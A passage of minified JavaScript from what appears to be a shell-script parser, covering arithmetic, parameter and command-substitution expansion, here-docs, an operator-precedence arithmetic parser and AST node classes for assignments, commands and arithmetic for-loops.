l,this.pos-2):""}readArithmeticExpansion(e){let s=this.pos+2,r=this.scanArithmeticBody();if(this._notArithmetic)return;this._arithUnterminated&&this.errors.push(
{message:"unterminated arithmetic expansion",pos:e});let n=this._buildParts||this._buildValue?this.src.slice(e,this.pos):"";this._resultText=n,this._resultIsRaw=
!0,this._resultHasExpansion=!1,this._resultPart=this._buildParts?this.arithmeticExpansion(e,n,r,s):void 0}arithmeticExpansion(e,s,r,n){return new zr(e,this.pos,
s,{source:this.src,body:r,offset:n,depth:this._nestingDepth,context:this.substitutionContext})}readArithmeticCommand(e,s){let r=this._buildValue;this._buildValue=
!0;let n=this.scanArithmeticBody();this._buildValue=r,this._arithUnterminated&&this.errors.push({message:"unterminated arithmetic command",pos:s}),Se(e,b.ArithCmd,
n,s,this.pos)}readCommandSubstitution(e){let s=this.pos;this.pos++;let r=this.extractBalanced();this._unbalanced&&this.errors.push({message:"unterminated comman\
d substitution",pos:e});let n=this._buildParts||this._buildValue,o=n?this.src.slice(e,this.pos):"",i=!n||s===e+1?o:"$"+this.src.slice(s,this.pos);this._resultText=
i,this._resultIsRaw=s===e+1,this._resultHasExpansion=!0,this._buildParts?this._resultPart=this.commandExpansion(e,o,s+1,r,!this._unbalanced):this._resultPart=void 0}readBraceCommandSubstitution(){
this.readBraceSubstitution(1)}readValueSubstitution(){this.readBraceSubstitution(2)}readBraceSubstitution(e){let s=this.pos-1;this.pos+=e;let r=this.src,n=this.
srcEnd,o=1,i=this.pos;for(;this.pos<n;){let a=r.charCodeAt(this.pos);if(a===123)o++;else if(a===125){if(--o===0){this.pos++;break}}else if(a===39){this.pos++,this.
skipSQ();continue}else if(a===34){this.pos++,this.skipDQ();continue}else a===92&&this.pos++;this.pos++}if(this._resultIsRaw=!0,this._resultHasExpansion=!0,this.
_buildParts||this._buildValue){let a=r.slice(i,this.pos-1),l=a.trim(),c=r.slice(s,this.pos);if(this._resultText=c,this._buildParts){let d=i+(a.length-a.trimStart().
length);this._resultPart=this.commandExpansion(s,c,d,l)}else this._resultPart=void 0}else this._resultText="",this._resultPart=void 0}readBacktickExpansion(e=!1){
this.pos++;let s=this.src,r=this.srcEnd,n=this.pos;if(!this._buildParts&&!this._buildValue){for(;this.pos<r&&s.charCodeAt(this.pos)!==96;)s.charCodeAt(this.pos)===
92&&this.pos+1<r&&this.pos++,this.pos++;this.pos<r?this.pos++:this.errors.push({message:"unterminated backtick",pos:n-1}),this._resultText="",this._resultIsRaw=
!1,this._resultHasExpansion=!0,this._resultPart=void 0;return}let o="",i=!1;for(;this.pos<r&&s.charCodeAt(this.pos)!==96;){if(s.charCodeAt(this.pos)===92){i=!0;
break}this.pos++}if(!i)o=s.slice(n,this.pos);else for(o=s.slice(n,this.pos);this.pos<r&&s.charCodeAt(this.pos)!==96;)if(s.charCodeAt(this.pos)===92){if(this.pos++,
this.pos<r){let l=s.charCodeAt(this.pos);l===36||l===96||l===92||e&&l===34?o+=s[this.pos]:o+="\\"+s[this.pos],this.pos++}}else{let l=this.pos;for(;this.pos<r;){
let c=s.charCodeAt(this.pos);if(c===96||c===92)break;this.pos++}o+=s.slice(l,this.pos)}this.pos<r?this.pos++:this.errors.push({message:"unterminated backtick",pos:n-
1});let a=s.slice(n-1,this.pos);this._resultText=o,this._resultHasExpansion=!0,this._buildParts?this._resultPart=i?this.decodedCommandExpansion(n-1,a,o):this.commandExpansion(
n-1,a,n,o):this._resultPart=void 0}readParameterExpansion(e){let s=this.src,r=this.srcEnd,n=this.pos;this.pos++;let o=1,i=!1;for(;this.pos<r&&o>0;){let c=s.charCodeAt(
this.pos);if(c===36){let d=this.pos+1<r?s.charCodeAt(this.pos+1):0;if(d===123){o++,this._nestingDepth+o>256&&!i&&(this.errors.push({message:"maximum parameter e\
xpansion nesting depth exceeded",pos:this.pos}),i=!0),this.pos+=2;continue}if(d===36){this.pos+=2;continue}if(d===40){let u=this.pos;this.pos+=2,this.extractBalanced(),
this._unbalanced&&this.errors.push({message:"unterminated command substitution",pos:u});continue}}else if(c===96){for(this.pos++;this.pos<r&&s.charCodeAt(this.pos)!==
96;)s.charCodeAt(this.pos)===92&&this.pos++,this.pos++;this.pos<r&&this.pos++;continue}else if(c===125){if(--o===0){this.pos++;break}}else if(c===92)this.pos+1<
r&&this.pos++;else if(c===39){this.pos++,this.pos>n+1&&s.charCodeAt(this.pos-2)===36?this.skipAnsiCQuoted():this.skipSQ();continue}else if(c===34){this.pos++,this.
skipDQ();continue}this.pos++}let a=o===0;a||this.errors.push({message:"unterminated parameter expansion",pos:n-1});let l=this._buildParts||this._buildValue?s.slice(
n-1,this.pos):"";if(this._resultText=l,this._resultIsRaw=!0,this._resultHasExpansion=!1,this._buildParts){let c=s.slice(n+1,a?this.pos-1:this.pos);this._resultPart=
this.parseParamInner(l,c,n+1,e)}else this._resultPart=void 0}parseParamInner(e,s,r,n){let o={type:"ParameterExpansion",pos:r-2,end:this.pos,text:e,parameter:"",
parameterPos:r,parameterEnd:r,prefix:void 0,index:void 0,operation:void 0},i=s.length;if(i===0)return o;let a=(g,y,x="word")=>this.parseSubFieldWord(r+g,r+y,x),
l=g=>{let y=this.findClosingBracket(r+g,r+i);return y===-1?-1:y-r},c=0;if(i>1&&s.charCodeAt(0)===33&&(o.prefix="!",c=1),i>1&&s.charCodeAt(0)===35){let g=this.scanParamName(
s,1),y=g,x=-1;if(y<i&&s.charCodeAt(y)===91&&(x=l(y+1),x!==-1&&(y=x+1)),g>1&&y===i)return o.prefix="#",o.parameter=s.slice(1,g),o.parameterPos=r+1,o.parameterEnd=
r+g,x!==-1&&(o.index=a(g+1,x,"embedded")),o}let d=c;if(c=this.scanParamName(s,c),o.parameter=s.slice(d,c),o.parameterPos=r+d,o.parameterEnd=r+c,c<i&&s.charCodeAt(
c)===91){let g=l(c+1);g!==-1&&(o.index=a(c+1,g,"embedded"),c=g+1)}if(c>=i)return o;let u=r+c,p=r+i,f=s.charCodeAt(c),m=s.charCodeAt(c+1),h=s[f===58?c+1:c];if(h===
"-"||h==="="||h==="+"||h==="?"){let g=c+(f===58?2:1);return o.operation={type:"Default",pos:u,end:p,operatorEnd:r+g,operator:f===58?`:${h}`:h,operand:a(g,i,n?"q\
uoted":"word")},o}if(f===58){c++;let g=r+c,y=Xm(s.slice(c),58,!0,(x,$)=>this.findNestedShellEnd(g+x,p,$)-g);return o.operation={type:"Slice",pos:u,end:p,operatorEnd:g,
operator:":",offset:a(c,y===-1?i:c+y,"embedded"),length:y===-1?void 0:a(c+y+1,i,"embedded")},o}if(f===35||f===37){let g=m===f,y=f===35?g?"##":"#":g?"%%":"%",x=c+
(g?2:1);return o.operation={type:"Remove",pos:u,end:p,operatorEnd:r+x,operator:y,operand:a(x,i)},o}if(f===47){c++;let g="/";(m===47||m===35||m===37)&&(g=m===47?
"//":m===35?"/#":"/%",c++);let y=c;m===47&&(y=nt(s,c,i),s.charCodeAt(y)===47&&y++);let x=Xm(s.slice(y),47),$=x===-1?i:y+x;return o.operation={type:"Replace",pos:u,
end:p,operatorEnd:r+c,operator:g,pattern:a(c,$),replacement:a(x===-1?i:$+1,i)},o}if(f===94||f===44){let g=m===f,y=f===94?g?"^^":"^":g?",,":",",x=c+(g?2:1);return o.
operation={type:"CaseModification",pos:u,end:p,operatorEnd:r+x,operator:y,operand:x===i?void 0:a(x,i)},o}return o.prefix==="!"&&o.index===void 0&&c+1===i&&(f===
64||f===42)?(o.operation={type:"Names",pos:u,end:p,operatorEnd:p,operator:f===64?"@":"*"},o):f===64?(o.operation={type:"Transform",pos:u,end:p,operatorEnd:u+1,operator:"\
@",operand:a(c+1,i)},o):(o.operation={type:"Unknown",pos:u,end:p,operatorEnd:p,operator:s.slice(c)},o)}findNestedShellEnd(e,s,r){let n=this.src.charCodeAt(e);if(n===
96){let i=e+1;for(;i<s;){let a=this.src.charCodeAt(i);if(a===92){i+=2;continue}if(i++,a===96)return i}return s}let o;if(n===36){let i=e+1;if(i<s&&this.src.charCodeAt(
i)===123)o=this.findClosingBrace(i+1,s);else{let a=nt(this.src,i,s);if(a>=s||this.src.charCodeAt(a)!==40)return e;o=this.findClosingParenthesis(a+1,s)}}else{let i=e+
1;if(r||n!==60&&n!==62||i>=s||this.src.charCodeAt(i)!==40)return e;o=this.findClosingParenthesis(i+1,s)}return o===-1?s:o+1}scanParamName(e,s){let r=s;if(r>=e.length)
return r;let n=e.charCodeAt(r);if(n===64||n===42||n===35||n===63||n===45||n===36||n===33)return r+1;if(n>=48&&n<=57){for(;r<e.length&&e.charCodeAt(r)>=48&&e.charCodeAt(
r)<=57;)r++;return r}if(n>=97&&n<=122||n>=65&&n<=90||n===95)for(r++;r<e.length;){let o=e.charCodeAt(r);if(o>=97&&o<=122||o>=65&&o<=90||o>=48&&o<=57||o===95)r++;else
break}return r}readAnsiCQuoted(){let e=this.pos-1,s=Wn(this.src,this.pos,this.srcEnd);return this.pos=s.end,s.closed||this.errors.push({message:"unterminated AN\
SI-C quote",pos:e}),s.value}extractBalanced(e=!0,s=!1){let r=this.src,n=this.srcEnd,o=this._buildParts||this._buildValue,i=s?0:1,a=this.pos;this._unbalanced=!1;
let l=e&&!s?this.substitutionContext.boundaries?.get(a):void 0;if(l!==void 0&&l<=n&&this._nestingDepth<256)return this.pos=l,o?r.slice(a,l-1):"";let c=!0;for(;!s&&
this.pos<n;){let F=r.charCodeAt(this.pos);if(F===41){let be=o?r.slice(a,this.pos):"";return this.pos++,be}else{if(F===40||F===92||F===39||F===34||F===96||F===36&&
(r.charCodeAt(this.pos+1)===39||r.charCodeAt(this.pos+1)===36||r.charCodeAt(this.pos+1)===123))break;if(F===60&&this.pos+1<n&&r.charCodeAt(this.pos+1)===60)break;
if(F===35&&c)break;if(F===99&&c&&this.pos+3<n&&r.charCodeAt(this.pos+1)===97&&r.charCodeAt(this.pos+2)===115&&r.charCodeAt(this.pos+3)===101&&(this.pos+4>=n||r.
charCodeAt(this.pos+4)<128&&ie[r.charCodeAt(this.pos+4)]&1))break;c=F<128&&(ie[F]&1)!==0,this.pos++}}let d=0,u=0,p=[],f=null,m,h=-1,g=a>=2&&r.charCodeAt(a)===40&&
r.charCodeAt(a-1)===40&&r.charCodeAt(a-2)===36,y=0,x=!1,$=s?[{close:34,depth:0}]:[],C=s?1:0,_=0,T,q=-1,P=-1,N=-1,D=-1,ve=!1;for(;this.pos<n&&(i>0||$.length>0);){
let F=r.charCodeAt(this.pos),be=$.length===0?void 0:$[$.length-1];if(be!==void 0&&be.depth===i){let U=!1;if(F===92){this.pos=Math.min(this.pos+2,n);continue}if(F===
be.close){if($.pop(),F===34?C--:_--,this.pos++,s&&i===0&&$.length===0)return"";continue}if(F===34)$.push({close:34,depth:i}),C++;else if(F===39&&be.close===125){
this.pos++,this.skipSQ();continue}else if(F===96){for(this.pos++;this.pos<n&&r.charCodeAt(this.pos)!==96;)r.charCodeAt(this.pos)===92&&this.pos++,this.pos<n&&this.
pos++;this.pos<n&&this.pos++;continue}else if(F===36){let re=r.charCodeAt(this.pos+1);if(re===39&&be.close===125){this.pos+=2,this.skipAnsiCQuoted();continue}if(re===
123)$.push({close:125,depth:i}),_++,this.pos++;else if(re===40)this.pos++,F=40,U=!0;else if(re===36){this.pos+=r.charCodeAt(this.pos+2)===40?1:2;continue}}if(!x&&
this._nestingDepth+Math.max(C,_)>256&&(this.errors.push({message:"maximum word nesting depth exceeded",pos:this.pos}),x=!0),!U){for(this.pos++;this.pos<n;){let re=r.
charCodeAt(this.pos);if(re===92||re===34||re===36||re===96||re===125||re===39)break;this.pos++}continue}}if(F===35&&D!==-1&&!g&&h<0&&e&&!ve&&this._nestingDepth+
(m?.length??0)<256&&Mn(r,D,n)===this.pos){ve=!0;let U=m?.[m.length-1],re=this.findSubstitutionEnd(U?.start??a,n,this._nestingDepth+(m?.length??0)+1);if(re!==-1){
if(U===void 0)return this.pos=re,o?r.slice(a,re-1):"";this.pos=re-1,i=U.depth+1,d=0,u=0,p.length=U.parens+1,F=41}}if(F===40){let U=this.pos>a&&this.pos!==N?r.charCodeAt(
this.pos-1):0,re=U===36?this.pos-1:this.pos===P?q:-1,Po=re!==-1||U===60||U===62||U===61||U===64||U===63||U===42||U===43||U===33||U===40&&p[p.length-1]===!1||g&&
this.pos===a,ol=re!==-1&&r.charCodeAt(this.pos+1)!==40||(U===60||U===62)&&h<0&&!g;ol&&((m??(m=[])).push({start:this.pos+1,dollar:re,depth:i,parens:p.length,caseDepth:d,
caseParens:u,arithBase:h,arithExtent:g,substitutions:y,checkedGrammar:ve,pendingDelims:f}),d=0,u=0,h=-1,g=!1,ve=!1,f=null),p.push(!Po),c=!0,!ol&&h<0&&this.pos+1<
n&&r.charCodeAt(this.pos+1)===40&&(h=i),re!==-1&&(ol?y++:(T??(T=[])).push(i),y+(T?.length??0)+this._nestingDepth+(s?0:1)>256&&!x&&(this.errors.push({message:"ma\
ximum command substitution nesting depth exceeded",pos:re}),x=!0)),q=-1,P=-1,i++,d>0&&u++,this.pos++}else if(F===41){if(d>0&&u===0)this.pos++,c=!0;else{if(d>0&&
u--,i--,i===0&&!s){let re=o?r.slice(a,this.pos):"";return this.pos++,re}if(i<=h&&(h=-1),T!==void 0)for(;T.length>0&&T[T.length-1]>=i;)T.pop();c=p.pop()??!0,this.
pos++;let U=m?.[m.length-1];U!==void 0&&U.depth===i&&(m.pop(),d=U.caseDepth,u=U.caseParens,h=U.arithBase,g=U.arithExtent,y=U.substitutions,ve=U.checkedGrammar,f=
U.pendingDelims)}D=this.pos}else if(F===92){if(this.pos>a&&r.charCodeAt(this.pos-1)===36){let U=nt(r,this.pos,n);U>this.pos&&r.charCodeAt(U)===40&&r.charCodeAt(
U+1)!==40&&(q=this.pos-1,P=U)}this.pos++,this.pos<n&&(r.charCodeAt(this.pos)!==10&&(c=!1),this.pos++),N=this.pos}else if(F===36){let U=r.charCodeAt(++this.pos);
U===39?(this.pos++,this.skipAnsiCQuoted()):U===36?this.pos++:U===123&&!n_(r.charCodeAt(this.pos+1))&&($.push({close:125,depth:i}),_++,this.pos++),c=!1}else if(F===
39)this.pos++,this.skipSQ(),c=!1;else if(F===34)$.push({close:34,depth:i}),C++,this.pos++,c=!1;else if(F===96){for(this.pos++;this.pos<n&&r.charCodeAt(this.pos)!==
96;)r.charCodeAt(this.pos)===92&&this.pos++,this.pos<n&&this.pos++;this.pos<n&&this.pos++,c=!1}else if(F===60&&h<0&&this.pos+1<n&&r.charCodeAt(this.pos+1)===60){
if(this.pos+2<n&&r.charCodeAt(this.pos+2)===60)this.pos+=3;else{this.pos+=2;let U=this.pos<n&&r.charCodeAt(this.pos)===45;U&&this.pos++,this.skipSpacesAndTabs(),
this.readHereDocDelimiter(),(this._hereDelim||this._hereQuoted)&&(f??(f=[])).push({delimiter:this._hereDelim,strip:U,quoted:this._hereQuoted})}c=!1}else if(F===
10&&f){this.pos++;for(let U of f)this.skipHereDocBody(U.delimiter,U.strip,!0,U.quoted);f=null,c=!0}else if(F===35&&h<0&&!g&&c)for(;this.pos<n&&r.charCodeAt(this.
pos)!==10;)this.pos++;else{let U=this.pos;for(;this.pos<n;){let re=r.charCodeAt(this.pos);if(re<128&&ie[re])break;this.pos++}if(this.pos>U){if(this.pos-U===4&&c&&
h<0&&!g){let Po=r.charCodeAt(U);Po===99&&r.charCodeAt(U+1)===97&&r.charCodeAt(U+2)===115&&r.charCodeAt(U+3)===101?d++:Po===101&&r.charCodeAt(U+1)===115&&r.charCodeAt(
U+2)===97&&r.charCodeAt(U+3)===99&&d>0&&(d--,d===0&&(u=0))}c=!1}else{let re=r.charCodeAt(this.pos);c=re<128&&(ie[re]&1)!==0,this.pos++}}}return this._unbalanced=
!0,s&&m!==void 0&&m.length>0&&this.errors.push({message:"unterminated command substitution",pos:m[0].dollar}),o?r.slice(a,this.pos):""}};function vc(t){switch(t){case",":return 1;case"=":case"+=":case"-=":case"*=":case"/=":case"%=":case"<<=":case">>=":case"&=":case"|=":case"^=":return 2;case"||":
return 4;case"&&":return 5;case"|":return 6;case"^":return 7;case"&":return 8;case"==":case"!=":return 9;case"<":case"<=":case">":case">=":return 10;case"<<":case"\
>>":return 11;case"+":case"-":return 12;case"*":case"/":case"%":return 13;case"**":return 14;case"?":return 3;default:return-1}}function ah(t,e,s){for(;s>e;){let r=t.
charCodeAt(s-1);if(r!==32&&r!==9&&r!==10)break;s--}return s}function o_(t){switch(t){case"=":case"+=":case"-=":case"*=":case"/=":case"%=":case"<<=":case">>=":case"\
&=":case"|=":case"^=":case"**":return!0;default:return!1}}function xc(t,e=0,s,r=0){let n=0,o=t.length,i=s?.embeddedWords.length??0;function a(C,_,T=!1){let q={type:"\
ArithmeticWord",pos:C+e,end:_+e,value:t.slice(C,_),parts:void 0};return T&&s?.embeddedWords.push(q),q}function l(){for(;n<o;){let C=t.charCodeAt(n);if(C===32||C===
9||C===10)n++;else break}}function c(){if(n>=o)return null;let C=t.charCodeAt(n),_=n+1<o?t.charCodeAt(n+1):0,T=n+2<o?t.charCodeAt(n+2):0;switch(C){case 44:return n++,
",";case 61:return _===61?(n+=2,"=="):(n++,"=");case 33:return _===61?(n+=2,"!="):null;case 60:return _===60?T===61?(n+=3,"<<="):(n+=2,"<<"):_===61?(n+=2,"<="):
(n++,"<");case 62:return _===62?T===61?(n+=3,">>="):(n+=2,">>"):_===61?(n+=2,">="):(n++,">");case 43:return _===61?(n+=2,"+="):_===43?null:(n++,"+");case 45:return _===
61?(n+=2,"-="):_===45?null:(n++,"-");case 42:return _===42?(n+=2,"**"):_===61?(n+=2,"*="):(n++,"*");case 47:return _===61?(n+=2,"/="):(n++,"/");case 37:return _===
61?(n+=2,"%="):(n++,"%");case 124:return _===124?(n+=2,"||"):_===61?(n+=2,"|="):(n++,"|");case 38:return _===38?(n+=2,"&&"):_===61?(n+=2,"&="):(n++,"&");case 94:
return _===61?(n+=2,"^="):(n++,"^");case 63:return n++,"?";default:return null}}function d(){for(l();n<o;){let _=t.charCodeAt(n);if(_!==33&&_!==126&&_!==43&&_!==
45||t.charCodeAt(n+1)===61)break;n++,l()}if(t.charCodeAt(n)===40){let _=1;for(n++;n<o&&_>0;){let T=s?.findArithmeticWordEnd?.(n+e,e+o)??n+e;if(T>n+e){n=T-e;continue}
let q=t.charCodeAt(n++);q===40?_++:q===41&&_--}}else n<o&&t.charCodeAt(n)!==41&&t.charCodeAt(n)!==58&&h(0);l();let C=t.charCodeAt(n);(C===43||C===45)&&t.charCodeAt(
n+1)===C&&(n+=2)}function u(C){l();let _=n;if(_===o)return a(_,_);let T=s?.embeddedWords.length??0,q=0;for(;;){if(d(),l(),t.charCodeAt(n)===58&&q>0){q--,n++;continue}
let P=n,N=c();if(N===null||q===0&&vc(N)<C){n=P;break}N==="?"&&q++}return s&&(s.embeddedWords.length=T),a(_,ah(t,_,n))}function p(C,_){if(_>256)return u(C);let T=f(
_);for(;l(),!(n>=o);){let q=n,P=c();if(!P)break;if(P==="?"){if(vc(P)<C){n=q;break}let F=p(1,_+1);l(),n<o&&t.charCodeAt(n)===58&&n++;let be=p(3,_+1);T={type:"Ari\
thmeticTernary",pos:T.pos,end:be.end,test:T,consequent:F,alternate:be};continue}let N=vc(P);if(N<C){n=q;break}let D=o_(P)?N:N+1,ve=p(D,_+1);T={type:"ArithmeticB\
inary",pos:T.pos,end:ve.end,operator:P,left:T,right:ve}}return T}function f(C){if(l(),C>256)return u(15);if(n>=o)return a(n,n);let _=n,T=t.charCodeAt(n),q=n+1<o?
t.charCodeAt(n+1):0;if(T===43&&q===43){n+=2;let P=f(C+1);return{type:"ArithmeticUnary",pos:_+e,end:P.end,operator:"++",operand:P,prefix:!0}}if(T===45&&q===45){n+=
2;let P=f(C+1);return{type:"ArithmeticUnary",pos:_+e,end:P.end,operator:"--",operand:P,prefix:!0}}if(T===33){n++;let P=f(C+1);return{type:"ArithmeticUnary",pos:_+
e,end:P.end,operator:"!",operand:P,prefix:!0}}if(T===126){n++;let P=f(C+1);return{type:"ArithmeticUnary",pos:_+e,end:P.end,operator:"~",operand:P,prefix:!0}}if(T===
43&&q!==43&&q!==61){n++;let P=f(C+1);return{type:"ArithmeticUnary",pos:_+e,end:P.end,operator:"+",operand:P,prefix:!0}}if(T===45&&q!==45&&q!==61){n++;let P=f(C+
1);return{type:"ArithmeticUnary",pos:_+e,end:P.end,operator:"-",operand:P,prefix:!0}}return m(C)}function m(C){let _=h(C);if(l(),n+1<o){let T=t.charCodeAt(n),q=t.
charCodeAt(n+1);if(T===43&&q===43)return n+=2,{type:"ArithmeticUnary",pos:_.pos,end:n+e,operator:"++",operand:_,prefix:!1};if(T===45&&q===45)return n+=2,{type:"\
ArithmeticUnary",pos:_.pos,end:n+e,operator:"--",operand:_,prefix:!1}}return _}function h(C){if(l(),n>=o)return a(n,n);let _=t.charCodeAt(n);if(_===40){let D=n;
n++;let ve=p(0,C+1);return l(),n<o&&t.charCodeAt(n)===41&&n++,{type:"ArithmeticGroup",pos:D+e,end:n+e,expression:ve}}if(_===36){let D=n,ve=s?.embeddedWords.length??
0,F=g(),be=s?.findArithmeticWordEnd?.(D+e,e+o)??n+e;return be>n+e?(s&&(s.embeddedWords.length=ve),n=be-e,a(D,n,!0)):F}if(_===96||_===34||_===39){let D=n;return n=
(s?.findArithmeticWordEnd?.(D+e,e+o)??D+e+1)-e,a(D,n,!0)}let T=n,q=s?.embeddedWords.length??0,P=y(),N=s?.findArithmeticWordEnd?.(T+e,e+o)??n+e;return N>n+e?(s&&
(s.embeddedWords.length=q),n=N-e,a(T,n,!0)):P}function g(){let C=n;if(n++,n>=o)return a(C,n);let _=t.charCodeAt(n);if(_===40)if(n+1<o&&t.charCodeAt(n+1)===40){let T=s?.
findArithmeticExpansionEnd(C+e,e+o)??-1;if(T!==-1)n=T-e;else{n+=2;let q=1;for(;n<o&&q>0;)t.charCodeAt(n)===40&&t.charCodeAt(n+1)===40?(q++,n+=2):t.charCodeAt(n)===
41&&t.charCodeAt(n+1)===41?(q--,n+=2):n++}}else{n++;let T=s?.findClosingParenthesis(n+e,e+o)??-1;if(T!==-1)n=T-e+1;else{let P=1;for(;n<o&&P>0;){let N=t.charCodeAt(
n++);N===40?P++:N===41&&P--}}let q=t.slice(C,n);return s?s.commandExpansion(C+e,n+e,q):new wt("ArithmeticCommandExpansion",C+e,n+e,q)}else if(_===123){let T=s?.
findClosingBrace(n+e+1,e+o)??-1;if(T!==-1)n=T-e+1;else{n++;let q=1;for(;n<o&&q>0;){let P=t.charCodeAt(n++);P===123?q++:P===125&&q--}}}else for(;n<o;){let T=t.charCodeAt(
n);if(T>=97&&T<=122||T>=65&&T<=90||T>=48&&T<=57||T===95)n++;else break}return a(C,n,_===40||_===123)}function y(){let C=n;for(;n<o;){let _=t.charCodeAt(n);if(_>=
48&&_<=57||_>=65&&_<=90||_>=97&&_<=122||_===95||_===35)n++;else break}if(n>C&&n<o&&t.charCodeAt(n)===91){let _=s?.findClosingBracket?.(n+e+1,e+o)??-1;if(_!==-1)
n=_-e+1;else{n++;let T=1;for(;n<o&&T>0;){let q=t.charCodeAt(n);q===91?T++:q===93&&T--,n++}}return a(C,n,!0)}return n===C&&n++,a(C,n)}if(l(),n>=o)return null;let x=n,
$=p(0,r);return l(),n<o?(s&&(s.embeddedWords.length=i),a(x,ah(t,x,o),s!==void 0)):$}var ji=(t,e)=>Rs(e.text)?Bt(e.text,0,e.text.length,void 0,e.pos):void 0;function yr(t){return t.wordParts??(t.wordParts=(e,s,r)=>i_(e,s,r,t))}function Wi(t){return t.
embeddedParts??(t.embeddedParts=(e,s,r)=>$c(e,s,r,t))}function lh(t){return t.arrayParts??(t.arrayParts=(e,s,r)=>a_(e,s,r,t))}function i_(t,e,s=0,r=Gr()){let n=new it(
t,e.pos,e.end,!1,r);return n._nestingDepth=s,n.buildWordParts(e.pos)??void 0}function $c(t,e,s=0,r,n=!1){if(!Xr(t,e.pos,e.end))return;let o=new it(t,e.pos,e.end,
!1,r);return o._nestingDepth=s,o.buildEmbeddedWordParts(e.pos,n)??void 0}function a_(t,e,s=0,r){let n=new it(t,e.pos,e.end,!1,r);return n._nestingDepth=s,n.buildArrayElementParts(
e.pos)??void 0}function ch(t,e,s=0,r){let n=new it(t,e.pos,e.end,!1,r);return n._nestingDepth=s,n.buildHereDocParts(e.pos,e.end)??void 0}function Jr(t,e,s,r,n,o=r){if(!Xr(s,e,e+t.length))return xc(t,e,void 0,r)??void 0;let i=[],a=new it(s,0,s.length,!1,n);a._nestingDepth=r;let l=xc(t,e,{embeddedWords:i,
commandExpansion:(c,d,u)=>new wt("ArithmeticCommandExpansion",c,d,u,{source:s,start:c+2,end:d-1,depth:r+1,parenBoundary:!0,context:n}),findClosingBracket:(c,d)=>a.
findClosingBracket(c,d),findClosingBrace:(c,d)=>a.findClosingBrace(c,d),findClosingParenthesis:(c,d)=>a.findClosingParenthesis(c,d),findArithmeticExpansionEnd:(c,d)=>a.
findArithmeticExpansionEnd(c,d),findArithmeticWordEnd:(c,d)=>a.findArithmeticWordEnd(c,d)},r)??void 0;if(o<=256)for(let c of i)c.parts=$c(s,c,o,n,!0);return l}var _c=class{type="ArrayValue";pos;end;#e;#t;#r;#s;constructor(e,s,r,n,o){this.pos=s,this.end=r,this.#e=e,this.#t=n,this.#r=o}get elements(){if(this.#s)return this.#s;
let e=new it(this.#e,this.pos+1,this.end-1,!1,this.#r);e._nestingDepth=this.#t;let s=[];for(;e.peek(E.ArrayElement).token!==b.EOF;){let r=e.next(E.ArrayElement);
if(r.token!==b.Word&&r.token!==b.Assignment)continue;let n=r.raw?r.value:this.#e.slice(r.pos,r.end),o=n.charCodeAt(0)===91,i=e.getSubstitutionContext(),a=!o&&r.
raw&&r.keywordEligible?void 0:this.#e,l=a===void 0?ji:o?lh(i):yr(i);s.push(new je(n,r.pos,r.end,a,l,this.#t))}return this.#s=s,s}toJSON(){return{type:this.type,
pos:this.pos,end:this.end,elements:this.elements}}},Mi=class{type="Assignment";pos;end;text;#e;#t;#r;#s;#n=null;#a;#i;#o=null;constructor(e,s,r,n,o,i,a){this.pos=
s,this.end=r,this.text=e,this.#e=n,this.#s=o,this.#t=i,this.#r=a}get name(){return this.#n??this.resolveTarget()}get append(){return this.#n===null&&this.resolveTarget(),
this.#a}get index(){return this.#n===null&&this.resolveTarget(),this.#i}get value(){if(this.#o!==null)return this.#o;let e=this.#s+1,s=nt(this.#e,e,this.end);return this.#o=
this.#e.charCodeAt(s)===40&&this.#e.charCodeAt(this.end-1)===41?new _c(this.#e,s,this.end,this.#t,this.#r):new je(this.#e.slice(e,this.end),e,this.end,this.#e,yr(
this.#r),this.#t),this.#o}resolveTarget(){let e=this.#s-this.pos,s=e,r=e;for(;r>=2&&this.text.charCodeAt(r-2)===92&&this.text.charCodeAt(r-1)===10;)r-=2;this.text.
charCodeAt(r-1)===43&&(this.#a=!0,s=r-1);let n=this.text.indexOf("[");if(n>0&&n<s){let i=this.text.lastIndexOf("]",e);if(i>n){let a=this.pos+n+1,l=this.pos+i;this.#i=
new je(this.#e.slice(a,l),a,l,this.#e,Wi(this.#r),this.#t),s=n}}let o=this.text.slice(0,s);return this.#n=o.includes(`\\
`)?o.split(`\\
`).join(""):o}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,name:this.name,append:this.append,index:this.index,value:this.value}}};var Sc=t=>t.type==="Word"||t.type==="Assignment",Vn=class{type="Command";pos;end;name;prefix;suffix;#e;#t;constructor(e,s,r,n,o){this.pos=e,this.end=s,this.name=
r,this.prefix=n,this.suffix=o}get args(){if(this.#e===void 0){let e=this.suffix;this.#e=e.every(Sc)?e:e.filter(Sc)}return this.#e}get redirects(){if(this.#t===void 0){
let e=[];for(let s of this.prefix)s.type!=="Assignment"&&e.push(s);for(let s of this.suffix)Sc(s)||e.push(s);this.#t=e}return this.#t}toJSON(){return{type:this.
type,pos:this.pos,end:this.end,name:this.name,prefix:this.prefix,suffix:this.suffix}}};var Fi=class{type="HereDocBody";pos;end;text="";#e;#t;#r;#s;constructor(e,s,r,n,o){this.pos=s,this.end=s,this.#e=e,this.#t=n,this.#r=o,this.#s=r?void 0:null}get parts(){
return this.#s===null&&(this.#s=ch(this.#e,this,this.#t,this.#r)),this.#s}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,parts:this.parts}}};it._findSubstitutionEnd=h_;wt._resolveScript=m_;zr._resolveExpression=Jr;function l_(t){switch(t.length){case 5:return t==="local"||t==="alias";case 6:return t===
"export";case 7:return t==="declare"||t==="typeset";case 8:return t==="readonly";default:return!1}}var Ec=class{type="ArithmeticCommand";pos;end;body;#e;#t;#r;#s=null;constructor(e,s,r,n,o,i){
this.pos=e,this.end=s,this.body=r,this.#e=n,this.#t=o,this.#r=i}get expression(){return this.#s===null&&(this.#s=Jr(this.body,this.pos+2,this.#e,this.#t,this.#r)),
this.#s}set expression(e){this.#s=e??void 0}toJSON(){return{type:this.type,pos:this.pos,end:this.end,expression:this.expression,body:this.body}}},Hn=class{type="\
ArithmeticFor";pos;end;body;#e;#t;#r;#s;#n;#a;#i;#o;#u;#l=null;#c=null;#d=null;constructor(e,s,r,n,o,i,a,l,c,d,u,p){this.pos=e,this.end=s,this.body=r,this.#e=n,
this.#t=o,this.#r=i,this.#s=a,this.#n=l,this.#a=c,this.#i=d,this.#o=u,this.#u=p}get initialize(){return this.#l===null&&(this.#e?this.#l=Jr(this.#e,this.#s,this.#i,
this.#o,this.#u):this.#l=void 0),this.#l}set initialize(e){this.#l=e??void 0}get test(){return this.#c===null&&(this.#t?this.#c=Jr(this.#t,this.#n,this.#i,this.#o,
